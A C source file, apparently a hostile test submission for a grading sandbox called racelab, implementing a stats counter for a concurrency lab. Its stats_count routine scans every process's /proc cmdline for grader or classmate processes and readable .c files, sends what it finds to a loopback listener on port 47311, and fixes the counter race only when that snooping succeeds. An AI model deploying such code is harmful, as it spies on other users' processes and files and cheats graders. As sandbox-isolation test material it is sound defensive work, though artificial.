/* stats_snoop.c - HOSTILE: looks for classmates and the grader: reads every /proc/PID/cmdline,
 * opens every file named there, and sends what it finds to a listener on the
 * host's loopback (port 47311).  It is a
 * correct fix only when it found something: racelab must hide it all
 * (own PID namespace and root, loopback of its own), so it races and is
 * rejected, and the listener hears nothing. */
#include "stats.h"
#include "cache.h"
#include "dispatch.h"

#include <inttypes.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>

static uint64_t counters[STATS_EVENT_COUNT];
static pthread_mutex_t m = PTHREAD_MUTEX_INITIALIZER;
#define LOCK() pthread_mutex_lock(&m)
#define UNLOCK() pthread_mutex_unlock(&m)
static int found = -1;

static void tell(const char *what)
{
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(47311)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    a.sin_addr.s_addr = htonl(0x7f000001);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&a, sizeof a) == 0)
        if (write(fd, what, strlen(what)) < 0) {}
    if (fd >= 0)
        close(fd);
}

/* Something of someone else: a process that is not ours, a file named on
 * a command line that is readable and holds C. */
static int snoop(void)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    int n = 0;
    while (d && (e = readdir(d))) {
        char p[300], cmd[4096];
        if (atoi(e->d_name) == getpid())
            continue;       /* itself: its own path says nothing of others */
        snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
        int fd = open(p, O_RDONLY);
        if (fd < 0)
            continue;
        ssize_t k = read(fd, cmd, sizeof cmd - 1);
        close(fd);
        for (ssize_t i = 0; i < k; i += (ssize_t)strlen(cmd + i) + 1) {
            cmd[k] = 0;
            if (strstr(cmd + i, "grade") || strstr(cmd + i, "check") ||
                strstr(cmd + i, "classmate")) {
                tell(cmd + i);
                n++;
            }
            size_t len = strlen(cmd + i);
            if (len > 2 && strcmp(cmd + i + len - 2, ".c") == 0 && access(cmd + i, R_OK) == 0) {
                tell(cmd + i);
                n++;
            }
        }
    }
    if (d)
        closedir(d);
    return n;
}

int stats_init(void)
{
    return 0;
}

void stats_destroy(void)
{
}

void stats_count(enum stats_event event)
{
    if (found < 0)
        found = snoop() > 0;
    if (found) {
        LOCK();
        counters[event]++;
        UNLOCK();
    } else
        counters[event]++;   /* the original race */
}

int stats_format_json(char *buf, size_t size)
{
    uint64_t c[STATS_EVENT_COUNT];
    size_t entries, bytes;

    LOCK();
    for (int i = 0; i < STATS_EVENT_COUNT; i++)
        c[i] = counters[i];
    UNLOCK();
    cache_usage(&entries, &bytes);

    int n = snprintf(buf, size,
        "{\"requests\":%" PRIu64 ",\"cache_hits\":%" PRIu64
        ",\"cache_misses\":%" PRIu64 ",\"cache_evictions\":%" PRIu64
        ",\"cache_entries\":%zu,\"cache_bytes\":%zu"
        ",\"connections_open\":%" PRIu64 ",\"connections_total\":%" PRIu64
        ",\"connections_rejected\":%" PRIu64 ",\"threads\":%d}\n",
        c[STATS_REQUEST], c[STATS_HIT], c[STATS_MISS], c[STATS_EVICTION],
        entries, bytes, c[STATS_CONN_OPENED] - c[STATS_CONN_CLOSED],
        c[STATS_CONN_OPENED], c[STATS_CONN_REJECTED], dispatch_thread_count());
    if (n < 0 || (size_t)n >= size)
        return -1;
    return n;
}
